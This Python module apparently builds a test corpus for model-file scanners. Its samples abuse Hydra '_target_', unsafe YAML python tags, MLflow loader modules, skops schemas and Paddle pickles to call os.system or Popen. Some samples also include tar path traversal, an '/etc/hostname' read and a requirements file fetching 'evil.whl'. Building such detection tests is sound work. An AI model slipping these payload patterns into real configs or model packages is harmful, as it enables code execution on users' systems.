"""Configurations that name callables: Hydra, NeMo, YAML tags, MLflow, skops, Paddle."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterator

from benchmarks.corpus.programs import evil, torch_zip, zipped
from benchmarks.corpus.protobuf import field
from benchmarks.corpus.sample import Group, Sample

HYDRA = b"model:\n  _target_: os.system\n  command: 'true'\n"


def tar(members: dict[str, bytes], mode: str = "w") -> bytes:
    """A tar of these members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def hydra() -> Iterator[Sample]:
    """``_target_`` in the config of a NeMo archive, or beside the weights."""
    weights = torch_zip(b"\x80\x02}.")
    partial = b"trainer:\n  callbacks:\n  - _target_: functools.partial\n    _args_: [os.system, 'true']\n"
    yield Sample("target.nemo", tar({"model_config.yaml": HYDRA, "model_weights.ckpt": weights}), "tarfile")
    yield Sample(
        "target-gz.nemo", tar({"./model_config.yaml": HYDRA, "./model_weights.ckpt": weights}, "w:gz"), "tarfile"
    )
    yield Sample(
        "weights.nemo", tar({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": torch_zip(evil(2))}), "tarfile"
    )
    yield Sample("traversal.nemo", tar({"../../evil.py": b"print(1)\n", "model_config.yaml": b"a: 1\n"}), "tarfile")
    yield Sample("partial.nemo", tar({"model_config.yaml": partial, "model_weights.ckpt": weights}), "tarfile")
    yield Sample("hydra/config.yaml", HYDRA)
    yield Sample(
        "hydra-nested/conf/model.yaml",
        b"optim:\n  name: x\n  extra:\n    - _target_: subprocess.Popen\n      args: ['true']\n",
    )
    yield Sample("hydra-eval/config.yaml", b"x:\n  _target_: builtins.eval\n  _args_: ['print(1)']\n")
    yield Sample("hydra-json/config.json", json.dumps({"model": {"_target_": "os.system", "command": "true"}}).encode())
    yield Sample("class-path/config.yaml", b"class_path: os.system\ninit_args:\n  command: 'true'\n")


def yaml_tags() -> Iterator[Sample]:
    """Tags that an unsafe YAML loader turns into calls."""
    for name, body in (
        ("apply", "!!python/object/apply:os.system ['true']\n"),
        ("new", "a: !!python/object/new:subprocess.Popen [['true']]\n"),
        ("name", "a: !!python/name:os.system\n"),
        ("module", "a: !!python/module:os\n"),
        ("object", "a: !!python/object:__main__.Evil {x: 1}\n"),
        ("verbatim", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"),
        ("handle", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n"),
    ):
        yield Sample(f"{name}/config.yaml", body.encode())
    yield Sample("hyperparams/hparams.yml", b"lr: 0.1\nmodel: !!python/object/apply:builtins.eval ['print(1)']\n")


def mlflow() -> Iterator[Sample]:
    """MLmodel files and what they lead to."""
    python = (
        "flavors:\n  python_function:\n    loader_module: {0}\n    python_version: 3.11.0\n    {1}\nmodel_uuid: x\n"
    )
    yield Sample(
        "loader-module",
        {
            "MLmodel": python.format("evil_loader", "code: code").encode(),
            "code/evil_loader.py": b"import os\nos.system('true')\n",
        },
    )
    yield Sample("loader-alone/MLmodel", python.format("os", "data: x").encode())
    yield Sample(
        "python-model",
        {
            "MLmodel": python.format("mlflow.pyfunc.model", "python_model: python_model.pkl").encode(),
            "python_model.pkl": evil(4),
        },
    )
    yield Sample("model-path/MLmodel", python.format("mlflow.sklearn", "model_path: ../../../etc/model.pkl").encode())
    yield Sample(
        "sklearn", {"MLmodel": python.format("mlflow.sklearn", "model_path: model.pkl").encode(), "model.pkl": evil(2)}
    )
    yield Sample(
        "requirements",
        {
            "MLmodel": python.format("mlflow.sklearn", "model_path: model.pkl").encode(),
            "model.pkl": b"\x80\x02}.",
            "requirements.txt": b"http://example.com/evil.whl\n",
        },
    )


def skops() -> Iterator[Sample]:
    """skops schemas whose nodes name functions and methods."""

    def schema(**tree: object) -> bytes:
        return json.dumps({"protocol": 2, "_skops_version": "0.11.0", **tree}).encode()

    function = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 1,
        "content": {"module_path": "os", "function": "system"},
    }
    operator = {
        "__class__": "methodcaller",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "__id__": 2,
        "attrs": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "__id__": 3,
            "content": [],
        },
    }
    method = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "MethodNode",
        "__id__": 4,
        "content": {
            "func": "communicate",
            "obj": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 5},
        },
    }
    typed = {
        "__class__": "type",
        "__module__": "builtins",
        "__loader__": "TypeNode",
        "__id__": 6,
        "content": "os.system",
    }
    reduced = {
        "__class__": "Evil",
        "__module__": "evil_module",
        "__loader__": "ObjectNode",
        "__id__": 7,
        "content": None,
    }
    confused = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "OperatorFuncNode",
        "__id__": 8,
        "attrs": {},
    }
    for name, tree in (
        ("function", function),
        ("operator", operator),
        ("method", method),
        ("type", typed),
        ("object", reduced),
        ("confused", confused),
    ):
        yield Sample(f"{name}.skops", zipped({"schema.json": schema(**tree)}))
    partial = {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "__id__": 9,
        "content": {"func": function, "args": {}, "kwds": {}, "namespace": {}},
    }
    yield Sample("nested.skops", zipped({"schema.json": schema(**partial)}))
    yield Sample("pickle-member.skops", zipped({"schema.json": schema(**reduced), "x.npy": evil(2)}))


def paddle() -> Iterator[Sample]:
    """Paddle's pickles, and programs with ``py_func``."""
    yield Sample("model.pdparams", evil(2))
    yield Sample("model.pdopt", evil(4))
    operator = field(3, "py_func") + field(1, field(1, "X") + field(2, "x"))
    block = field(1, 0) + field(2, 0) + field(4, operator)
    yield Sample("py-func.pdmodel", field(1, block) + field(4, field(1, 0)))
    yield Sample("py-func-named.__model__/__model__", field(1, block) + field(4, field(1, 0)))
    load = field(3, "load") + field(4, field(1, "file_path") + field(2, 2) + field(5, "/etc/hostname"))
    yield Sample("load.pdmodel", field(1, field(1, 0) + field(2, 0) + field(4, load)))
    yield Sample("pickle.pdiparams.info", evil(2))
    yield Sample("layer.pdmodel", evil(2))


GROUPS = (
    Group("nemo-hydra", hydra, "CVE-2025-23304, CVE-2025-23360"),
    Group("yaml-tags", yaml_tags),
    Group("mlflow", mlflow),
    Group("skops", skops, "CVE-2025-54412, CVE-2025-54413, CVE-2025-54886"),
    Group("paddle", paddle),
)
